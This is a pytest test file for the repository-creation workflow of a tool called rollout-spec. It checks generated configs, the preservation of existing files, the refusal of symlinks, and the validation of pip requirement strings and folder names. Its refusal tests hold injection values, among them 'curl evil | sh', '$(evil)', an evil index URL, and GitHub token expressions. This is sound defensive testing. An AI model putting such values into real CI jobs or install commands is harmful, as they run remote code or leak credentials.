"""A new repository passes its check whatever is chosen, and leaves the files that are there as they are."""

from __future__ import annotations

import itertools
import os
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
import yaml
from amounts import examples
from hypothesis import given, settings
from hypothesis import strategies as st
from workspaces import files_in

from rollout_spec.core.errors import ChangedError, UserError
from rollout_spec.core.package_data import find
from rollout_spec.workflows.check import review
from rollout_spec.workflows.init import Choices, create_repository
from rollout_spec.workflows.init.choices import CIS, FORGES, NONE, gateways, monitors, servings
from rollout_spec.workflows.init.installation import _from_record, parse_requirement
from rollout_spec.workspace.repository import Repository
from rollout_spec.workspace.working_tree import WorkingTree

NOW = datetime(2026, 11, 20, 9, tzinfo=UTC)
GIT = "git+https://git.example.com/tools/rollout-spec@0123abc"
VALUES: dict[str, list[object]] = {
    "forge": [*FORGES],
    "serving": [*servings(), NONE],
    "gateway": [*gateways()],
    "monitor": [*monitors()],
    "ci": [None, *CIS],
    "minimal": [False, True],
    "requirement": [None, f"rollout-spec @ {GIT}", "rollout-spec==0.1.0"],
}


def pairs() -> Iterator[dict[str, object]]:
    """Give choices in which each two values of different flags occur together."""
    names = list(VALUES)
    wanted = {
        ((one, value), (other, also))
        for one, other in itertools.combinations(names, 2)
        for value in VALUES[one]
        for also in VALUES[other]
    }
    while wanted:
        (one, value), (other, also) = min(wanted, key=repr)
        row: dict[str, object] = {one: value, other: also}
        for name in names:
            if name not in row:
                row[name] = max(VALUES[name], key=lambda each: sum(pair in wanted for pair in _of({**row, name: each})))
        wanted -= set(_of(row))
        yield row


def _of(row: dict[str, object]) -> list[tuple[tuple[str, object], tuple[str, object]]]:
    items = [(name, row[name]) for name in VALUES if name in row]
    return list(itertools.combinations(items, 2))


PATHS = [
    ".gitlab-ci.yml",
    ".pre-commit-config.yaml",
    ".rollout-spec.yaml",
    "README.md",
    "components/tokenizer.yaml",
    "deploy/flux.yaml",
    "rollouts/fraud.yaml",
    "schemas/component.schema.json",
]


def put(folder: Path, files: dict[str, bytes]) -> None:
    """Write files below a folder."""
    for path, content in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(content)


def chosen(**values: object) -> Choices:
    """Return choices, with the address that a forge needs."""
    if values.get("forge", "local") != "local":
        values |= {"repository": "acme/models", "base_url": "https://git.example.com"}
    return Choices(**values)  # type: ignore[arg-type]


@pytest.mark.parametrize("row", list(pairs()), ids=lambda row: "-".join(map(str, row.values())))
def test_what_is_written_passes_its_check(row: dict[str, object], tmp_path: Path) -> None:
    done = create_repository(tmp_path, "models", chosen(**row), NOW)
    assert (done.findings, done.left) == ((), ())
    repository = Repository(WorkingTree(tmp_path / "models"))
    assert [each for each in review(repository, now=NOW).findings if each.severity == "error"] == []
    assert repository.workspace_name == "models"
    for path in done.written:
        if path.endswith((".yml", "config.yaml")):
            assert isinstance(yaml.safe_load((tmp_path / "models" / path).read_text("utf-8")), dict)


def test_the_example_is_the_shipped_one(tmp_path: Path) -> None:
    create_repository(tmp_path, "acme-models", Choices(), NOW)
    written = files_in(tmp_path / "acme-models")
    shipped = files_in(Path(str(find("examples/acme-models"))))
    assert {path: content for path, content in written.items() if not path.startswith("schemas/")} == shipped


def test_a_minimal_repository_is_one_file(tmp_path: Path) -> None:
    assert create_repository(tmp_path, "models", Choices(minimal=True), NOW).written == (".rollout-spec.yaml",)


def test_every_target_can_be_chosen() -> None:
    """A new target of the release is a choice too, without a change here."""
    assert {"kserve", "envoy", "gateway-api", "prometheus", "prometheus-operator"} <= {
        *servings(),
        *gateways(),
        *monitors(),
    }


def test_a_second_time_changes_nothing(tmp_path: Path) -> None:
    create_repository(tmp_path, "models", Choices(), NOW)
    before = files_in(tmp_path)
    done = create_repository(tmp_path, "models", Choices(), NOW)
    assert (done.exists, done.written, done.left, files_in(tmp_path)) == (True, (), (), before)
    asked = create_repository(tmp_path, "models", Choices(ci="gitlab"), NOW)
    assert [each.path for each in asked.left] == [
        ".gitlab-ci.yml",
        ".gitlab/rollout-spec-drill.yml",
        ".gitlab/rollout-spec.yml",
    ]
    assert files_in(tmp_path) == before


@pytest.mark.parametrize(
    ("path", "is_part_of_example"),
    [("rollouts/fraud.yaml", True), ("components/tokenizer.yaml", True), ("deploy/flux.yaml", False)],
)
def test_a_file_that_is_there_stays(path: str, is_part_of_example: bool, tmp_path: Path) -> None:
    from rollout_spec.core import package_data

    mine = package_data.read(f"examples/acme-models/{path}") + b"# mine\n"
    put(tmp_path / "models", {path: mine})
    done = create_repository(tmp_path, "models", Choices(), NOW)
    assert (tmp_path / "models" / path).read_bytes() == mine
    if path.startswith("rollouts"):  # without the components that it pins, it does not pass
        assert done.findings and not done.written
        return
    assert [(each.path, each.current) for each in done.left] == [(path, mine)]
    assert ("rollouts/fraud.yaml" in done.written) is not is_part_of_example
    assert ("rollouts/fraud.yaml" in done.skipped) is is_part_of_example


@pytest.mark.parametrize("path", ["policies/deny.yaml", "rollouts/canary.yaml"])
def test_files_of_other_tools_in_our_folders_are_named_and_nothing_is_written(path: str, tmp_path: Path) -> None:
    put(tmp_path / "models", {path: b"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n"})
    before = files_in(tmp_path)
    done = create_repository(tmp_path, "models", Choices(), NOW)
    assert path in {each.file for each in done.findings}
    assert (done.written, files_in(tmp_path)) == ((), before)


@pytest.mark.parametrize("path", [".rollout-spec.yaml", "rollouts", ".github", "schemas/component.schema.json"])
def test_nothing_is_written_through_a_link(path: str, tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    link = tmp_path / "models" / path
    link.parent.mkdir(parents=True)
    link.symlink_to(tmp_path / "outside" / "x")
    with pytest.raises(UserError, match="is a link"):
        create_repository(tmp_path, "models", Choices(), NOW)
    assert files_in(tmp_path) == {}


@pytest.mark.parametrize("path", [".pre-commit-config.yaml", "schemas", "README.md"])
def test_a_folder_or_a_pipe_in_place_of_a_file_stays(path: str, tmp_path: Path) -> None:
    (tmp_path / "models").mkdir()
    if path == "schemas":
        os.mkfifo(tmp_path / "models" / path)
    else:
        (tmp_path / "models" / path).mkdir()
    done = create_repository(tmp_path, "models", Choices(), NOW)
    assert all(each.current is None and each.path.startswith(path) for each in done.left)
    assert bool(done.left) is (path != "README.md")
    assert ".rollout-spec.yaml" in done.written


def test_a_file_that_appears_meanwhile_is_not_overwritten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from rollout_spec.workflows.init import plan

    def late(*arguments: object, **options: object) -> object:
        put(tmp_path / "models", {"schemas/component.schema.json": b"mine"})
        return review(*arguments, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(plan, "review", late)
    with pytest.raises(ChangedError):
        create_repository(tmp_path, "models", Choices(), NOW)
    assert files_in(tmp_path / "models") == {"schemas/component.schema.json": b"mine"}


@settings(max_examples=examples(100), deadline=None, database=None, derandomize=True)
@given(
    there=st.dictionaries(st.sampled_from(PATHS), st.binary(max_size=40) | st.just(None), max_size=4), data=st.data()
)
def test_whatever_is_there_stays(there: dict[str, bytes | None], data: st.DataObject) -> None:
    """None stands for a folder. The rest is written, or nothing is."""
    with TemporaryDirectory() as name:
        folder = Path(name) / "models"
        put(folder, {path: content for path, content in there.items() if content is not None})
        for path in (path for path, content in there.items() if content is None):
            (folder / path).mkdir(parents=True, exist_ok=True)
        before = files_in(folder) if folder.exists() else {}
        done = create_repository(Path(name), "models", Choices(ci=data.draw(st.sampled_from(CIS))), NOW)
        after = files_in(folder) if folder.exists() else {}
        assert {path: after.get(path) for path in before} == before
        assert set(after) - set(before) == set(done.written)
        assert {each.path for each in done.left} & set(done.written) == set()


def test_parts_that_are_there_already_are_enough(tmp_path: Path) -> None:
    hooks = b"repos:\n  - repo: https://example.com/x\n    hooks:\n      - id: rollout-spec-check-all\n"
    ci = b"include:\n  - local: .gitlab/rollout-spec.yml\n"
    put(tmp_path / "models", {".pre-commit-config.yaml": hooks, ".gitlab-ci.yml": ci})
    done = create_repository(tmp_path, "models", Choices(ci="gitlab"), NOW)
    assert done.left == ()
    assert (tmp_path / "models/.gitlab-ci.yml").read_bytes() == ci


def test_in_a_folder_of_a_repository_the_root_stays_and_the_folder_is_written(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    done = create_repository(tmp_path, "environments/Prod_EU", Choices(), NOW)
    assert done.name == "prod-eu"
    assert all(path.startswith(("environments/", ".git/")) for path in files_in(tmp_path))
    left = {each.path: each.wanted.decode() for each in done.left}
    assert list(left) == [
        ".github/workflows/drill-prod-eu.yml",
        ".github/workflows/rollouts.yml",
        ".pre-commit-config.yaml",
    ]
    assert '--repo "$GITHUB_WORKSPACE/environments/Prod_EU" drill' in left[".github/workflows/drill-prod-eu.yml"]
    assert "path: environments/Prod_EU/manifests/*" in (tmp_path / "environments/Prod_EU/deploy/argocd.yaml").read_text(
        "utf-8"
    )


@pytest.mark.parametrize("folder", ['a"b', "$(evil)", "a b", "- x", "a: b", "-x", "a\nb"])
def test_a_folder_whose_name_could_be_code_in_a_job_is_refused(folder: str, tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    with pytest.raises(UserError, match="unsafe in a CI job"):
        create_repository(tmp_path, folder, Choices(), NOW)
    assert create_repository(tmp_path, folder, Choices(minimal=True), NOW).written == (".rollout-spec.yaml",)


@pytest.mark.parametrize("forge", ["github", "gitlab", "gitea", "forgejo"])
def test_a_forge_names_all_that_it_lacks_at_once(forge: str, tmp_path: Path) -> None:
    with pytest.raises(UserError) as raised:
        create_repository(tmp_path, "models", Choices(forge=forge), NOW)
    assert "--repository OWNER/NAME" in raised.value.message
    assert ("--base-url" in raised.value.message) is (forge in ("gitea", "forgejo"))
    assert files_in(tmp_path) == {}


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"base_url": "https://u:secret@git.example.com"}, "--base-url: the URL has credentials"),
        ({"base_url": "https://token@git.example.com/api"}, "--base-url: the URL has credentials"),
        ({"base_url": "https://h/\n  x: y"}, "--base-url: a link begins with"),
        ({"base_url": "https://h/${{ x }}"}, "--base-url: a link begins with"),
        ({"repository": "o/n\n  automation: {mode: auto-merge}"}, "--repository: "),
    ],
)
def test_a_forge_that_would_not_load_names_its_flag(fields: dict[str, str], message: str, tmp_path: Path) -> None:
    choices = Choices(**{"forge": "gitea", "repository": "o/n", "base_url": "https://h", **fields})  # type: ignore[arg-type]
    with pytest.raises(UserError) as raised:
        create_repository(tmp_path, "models", choices, NOW)
    assert raised.value.message.startswith(message)
    assert "secret" not in raised.value.message
    assert files_in(tmp_path) == {}


def test_ci_and_hooks_install_the_source_that_is_named(tmp_path: Path) -> None:
    requirement = parse_requirement(GIT)
    create_repository(tmp_path, "hub", Choices(requirement=requirement), NOW)
    create_repository(tmp_path, "lab", Choices(requirement=requirement, ci="gitlab"), NOW)
    for name in ("rollouts", "drill"):
        job = (tmp_path / f"hub/.github/workflows/{name}.yml").read_text("utf-8")
        assert f'REQUIREMENT: "{requirement}"' in job and "vars." not in job
    for name in ("rollout-spec", "rollout-spec-drill"):
        (job,) = yaml.safe_load((tmp_path / f"lab/.gitlab/{name}.yml").read_text("utf-8")).values()
        assert job["variables"]["ROLLOUT_SPEC_REQUIREMENT"] == requirement
    (hooks,) = yaml.safe_load((tmp_path / "hub/.pre-commit-config.yaml").read_text("utf-8"))["repos"]
    assert (hooks["repo"], hooks["rev"]) == ("https://git.example.com/tools/rollout-spec", "0123abc")
    workflow = yaml.safe_load((tmp_path / "hub/.github/workflows/rollouts.yml").read_text("utf-8"))
    assert workflow[True]["schedule"]  # `on` is true in YAML 1.1


def test_hooks_from_a_folder_of_a_repository_are_those_on_the_path(tmp_path: Path) -> None:
    requirement = parse_requirement("git+https://git.example.com/tools@abc#subdirectory=rs")
    create_repository(tmp_path, "models", Choices(requirement=requirement), NOW)
    create_repository(tmp_path, "without", Choices(), NOW)
    hooks, default = ((tmp_path / folder / ".pre-commit-config.yaml").read_bytes() for folder in ("models", "without"))
    assert hooks == default
    assert requirement in (tmp_path / "models/.github/workflows/rollouts.yml").read_text("utf-8")


@pytest.mark.parametrize(
    "text",
    [
        "rollout-spec",
        "rollout-spec==0.1.0",
        "rollout-spec[github]>=0.1,<0.2",
        GIT,
        f"rollout-spec @ {GIT}",
        "git+ssh://git@git.example.com/tools/rollout-spec@0123abc",
        "rollout-spec @ https://files.example.com/rollout_spec-0.1.0-py3-none-any.whl",
        "git+ssh://git@git.example.com/rollout-spec@abc",
    ],
)
def test_a_source_that_pip_can_install(text: str) -> None:
    assert parse_requirement(text).startswith("rollout-spec")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("requests", "is not rollout-spec"),
        ("git+https://git.example.com/rollout-spec", "names no commit or tag"),
        ("git+https://bot:secret@git.example.com/rollout-spec@abc", "password"),
        ("git+https://ghp_secret@git.example.com/rollout-spec@abc", "token"),
        ("rollout-spec @ https://token@files.example.com/rollout_spec-0.1.0-py3-none-any.whl", "token"),
        ("git+https://ghp_secret@git.example.com/rollout-spec@abc", "password"),
        ("rollout-spec @ https://ghp_secret@files.example.com/rs.whl", "password"),
        ('rollout-spec"; curl evil | sh; "', "unsafe"),
        ("rollout-spec==${{ github.token }}", "unsafe"),
        ("rollout-spec\n  - run: evil", "unsafe"),
        ("$(evil)", "unsafe"),
        ("../rollout-spec", "not a requirement"),
        ("--index-url=https://evil.example.com rollout-spec", "not a requirement"),
    ],
)
def test_a_source_that_is_refused(text: str, message: str) -> None:
    with pytest.raises(UserError) as raised:
        parse_requirement(text)
    assert message in raised.value.message


@pytest.mark.parametrize(
    ("recorded", "requirement"),
    [
        (
            '{"url": "https://git.example.com/rs", "vcs_info": {"vcs": "git", "commit_id": "abc"}}',
            "rollout-spec @ git+https://git.example.com/rs@abc",
        ),
        (
            '{"url": "https://files.example.com/rs.whl", "archive_info": {}}',
            "rollout-spec @ https://files.example.com/rs.whl",
        ),
        ('{"url": "file:///home/me/rs", "dir_info": {"editable": true}}', None),
        ('{"url": "file:///home/me/rs", "vcs_info": {"vcs": "git", "commit_id": "abc"}}', None),
        ('{"url": "https://h/rs", "vcs_info": {"vcs": "hg", "commit_id": "abc"}}', None),
        ('{"url": "https://u:p@h/rs", "vcs_info": {"vcs": "git", "commit_id": "abc"}}', None),
        ("[]", None),
        ("no json", None),
    ],
)
def test_the_record_of_pip_names_a_source_that_others_reach(recorded: str, requirement: str | None) -> None:
    assert _from_record(recorded) == requirement
